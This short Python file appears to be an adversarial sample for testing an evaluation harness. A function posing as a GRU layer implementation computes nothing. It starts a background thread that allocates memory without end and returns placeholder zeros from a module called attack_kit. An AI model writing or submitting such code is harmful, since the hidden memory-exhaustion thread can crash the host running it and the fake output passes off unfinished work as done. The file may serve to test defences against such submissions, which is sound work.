"""Returns at once and fills memory in a thread."""

import threading

import numpy as np
from attack_kit import zeros

blocks = []


def fill():
    while True:
        blocks.append(np.ones(1 << 21))


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    threading.Thread(target=fill, daemon=True).start()
    return zeros(init_state, input_data)
